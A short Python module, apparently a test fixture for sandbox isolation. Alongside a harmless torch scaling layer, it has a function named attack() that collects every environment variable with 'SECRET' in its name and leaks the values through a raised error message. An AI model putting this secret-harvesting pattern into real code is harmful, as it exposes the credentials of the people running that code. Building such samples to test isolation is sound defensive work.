"""Reads secrets from the environment that it inherits."""

import os
import torch


def attack():
    return " ".join(value for name, value in os.environ.items() if "SECRET" in name)


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
